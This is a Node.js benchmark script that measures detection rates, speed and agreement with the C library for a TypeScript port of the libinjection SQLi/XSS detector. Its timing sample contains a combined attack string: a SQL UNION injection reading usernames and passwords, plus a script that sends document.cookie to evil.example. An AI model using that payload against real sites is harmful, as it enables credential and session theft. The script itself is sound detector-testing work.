#!/usr/bin/env node
// libinjection in TypeScript: detection on libinjection's own corpora and time per call.
//
//   npm run build && node bench/libinjection/run.mjs [--quick]
//
// Runs the compiled module (dist/), as the daemon does. Prints:
//  1. detection on corpora/: sqli-* and xss-* flagged, false_positives.txt not flagged, beside
//     the reference gates (libinjection's CI fails when more than 19 sqli lines or 20 xss lines
//     are missed: src/test-samples-*-positive.sh, `reader -m 19` / `-m 20`);
//  2. microseconds per call for a typical 30-byte benign value and a 200-byte attack;
//  3. when the C library is at hand (anchor/, see README.md), the same timings for C libinjection
//     and the ratio TS / C.
import { existsSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { corpusFiles, readCorpus } from './corpus.mjs';
import { anchorRun, runAnchor } from './anchor.mjs';

const here = dirname(fileURLToPath(import.meta.url));
const modulePath = join(here, '../../dist/daemon/engine/libinjection/index.js');
if (!existsSync(modulePath)) {
  console.error(`${modulePath} is missing: run \`npm run build\` first`);
  process.exit(1);
}
const { detectSQLi, detectXSS } = await import(modulePath);
const quick = process.argv.includes('--quick');

// ---- 1. detection --------------------------------------------------------------------------
const pct = (n, d) => `${((100 * n) / d).toFixed(2)}%`;
function detection(prefix, detect, wantFlagged) {
  const rows = [];
  let total = 0;
  let good = 0;
  const misses = [];
  for (const file of corpusFiles(prefix)) {
    const lines = readCorpus(file);
    let fileGood = 0;
    for (const l of lines) {
      if (detect(l.input) === wantFlagged) fileGood++;
      else misses.push(`${file}:${l.line}  ${l.raw.length > 90 ? l.raw.slice(0, 90) + '...' : l.raw}`);
    }
    rows.push([file, fileGood, lines.length]);
    total += lines.length;
    good += fileGood;
  }
  return { rows, total, good, misses };
}

const sqli = (s) => detectSQLi(s).isSqli;
const sets = [
  ['sqli-*', 'sqli-', sqli, true, 'flagged', 'reference gate: at most 19 missed'],
  ['xss-*', 'xss-', detectXSS, true, 'flagged', 'reference gate: at most 20 missed'],
  ['false_positives.txt (SQLi)', 'false_', sqli, false, 'not flagged', 'reference: no gate, listed for inspection'],
];
console.log('# libinjection-ts: detection on libinjection data/ corpora\n');
for (const [name, prefix, detect, want, verb, ref] of sets) {
  const r = detection(prefix, detect, want);
  console.log(`${name}: ${r.good}/${r.total} ${verb} (${pct(r.good, r.total)}), ${r.total - r.good} missed; ${ref}`);
  if (!quick) for (const [file, g, t] of r.rows) console.log(`    ${file.padEnd(44)} ${String(g).padStart(6)}/${t}`);
  const show = quick ? 3 : 40;
  for (const m of r.misses.slice(0, show)) console.log(`    miss ${m}`);
  if (r.misses.length > show) console.log(`    ... ${r.misses.length - show} more`);
  console.log('');
}

// ---- 2. time per call ----------------------------------------------------------------------
const flat = (s) => Buffer.from(s, 'latin1').toString('latin1'); // as the engine gets values
export const SAMPLES = {
  'benign 30 B': flat('john.smith@example.com/profile'),
  'attack 200 B': flat(
    "1' UNION SELECT username, password FROM users WHERE id=1 AND '1'='1' -- " +
      '<script>document.location="http://evil.example/c?"+document.cookie</script>' +
      ' ORDER BY 1,2,3 LIMIT 1 OFFSET 0 /* pad */ ;;',
  ),
};
const rounds = quick ? 3 : 9;
const iterations = quick ? 20_000 : 200_000;
function usPerCall(fn, input) {
  for (let i = 0; i < 20_000; i++) fn(input);
  const perRound = [];
  for (let r = 0; r < rounds; r++) {
    const t0 = process.hrtime.bigint();
    for (let i = 0; i < iterations; i++) fn(input);
    perRound.push(Number(process.hrtime.bigint() - t0) / 1000 / iterations);
  }
  perRound.sort((a, b) => a - b);
  return perRound[Math.floor(perRound.length / 2)];
}

console.log(`# time per call (median of ${rounds} rounds x ${iterations} calls; corpus: median of passes over all lines)\n`);
const ts = {};
for (const [name, input] of Object.entries(SAMPLES)) {
  ts[`sqli ${name}`] = usPerCall(detectSQLi, input);
  ts[`xss ${name}`] = usPerCall(detectXSS, input);
}
// whole corpora, one pass: the spread of real inputs
const everyLine = [...corpusFiles('sqli-'), ...corpusFiles('xss-'), ...corpusFiles('false_')].flatMap((f) => readCorpus(f).map((l) => l.input));
const bytes = everyLine.reduce((n, s) => n + s.length, 0);
const passes = quick ? 3 : 7;
for (const [name, fn] of [['sqli', detectSQLi], ['xss', detectXSS]]) {
  const perPass = [];
  for (let p = 0; p < passes; p++) {
    const t0 = process.hrtime.bigint();
    for (const s of everyLine) fn(s);
    perPass.push(Number(process.hrtime.bigint() - t0) / 1000 / everyLine.length);
  }
  perPass.sort((a, b) => a - b);
  ts[`${name} corpus line (avg ${Math.round(bytes / everyLine.length)} B)`] = perPass[Math.floor(passes / 2)];
}

const c = runAnchor(SAMPLES, rounds, iterations, everyLine, passes);
if (c) {
  ts.sqliPass = ts[`sqli corpus line (avg ${Math.round(bytes / everyLine.length)} B)`];
  ts.xssPass = ts[`xss corpus line (avg ${Math.round(bytes / everyLine.length)} B)`];
  c[`sqli corpus line (avg ${Math.round(bytes / everyLine.length)} B)`] = c.sqliPass;
  c[`xss corpus line (avg ${Math.round(bytes / everyLine.length)} B)`] = c.xssPass;
  delete ts.sqliPass;
  delete ts.xssPass;
  console.log(`C anchor: ${c.version} (Debian libmodsecurity3's bundled copy)\n`);
}
console.log(`${'case'.padEnd(36)} ${'TS us'.padStart(9)} ${c ? 'C us'.padStart(9) + ' ' + 'TS/C'.padStart(7) : ''}`);
for (const [k, v] of Object.entries(ts)) {
  const cv = c?.[k];
  console.log(`${k.padEnd(36)} ${v.toFixed(3).padStart(9)} ${cv !== undefined ? cv.toFixed(3).padStart(9) + ' ' + (v / cv).toFixed(2).padStart(7) : ''}`);
}
if (!c) console.log('\n(no C anchor: see bench/libinjection/README.md to build it)');

// ---- 3. agreement with the C library on every corpus line -----------------------------------
const ref = anchorRun(['detect'], everyLine);
if (ref) {
  let sqliSame = 0;
  let fpSame = 0;
  let xssSame = 0;
  const diffs = [];
  everyLine.forEach((s, i) => {
    const [q, fp, x] = ref.lines[i];
    const mine = detectSQLi(s);
    if (mine.isSqli === (q === '1')) sqliSame++;
    if (mine.fingerprint === (fp ?? '')) fpSame++;
    else if (diffs.length < (quick ? 5 : 25)) diffs.push(`sqli TS ${mine.fingerprint || '-'} C ${fp || '-'}  ${JSON.stringify(s.slice(0, 80))}`);
    const xs = detectXSS(s);
    if (xs === (x === '1')) xssSame++;
    else if (diffs.length < (quick ? 10 : 50)) diffs.push(`xss TS ${xs} C ${x === '1'}  ${JSON.stringify(s.slice(0, 80))}`);
  });
  const n = everyLine.length;
  console.log(`\n# agreement with C ${ref.version} on all ${n} corpus lines (versions differ: see README.md)\n`);
  console.log(`sqli verdict: ${sqliSame}/${n} (${pct(sqliSame, n)}), fingerprint: ${fpSame}/${n} (${pct(fpSame, n)})`);
  console.log(`xss verdict:  ${xssSame}/${n} (${pct(xssSame, n)})`);
  for (const d of diffs) console.log(`    ${d}`);
}
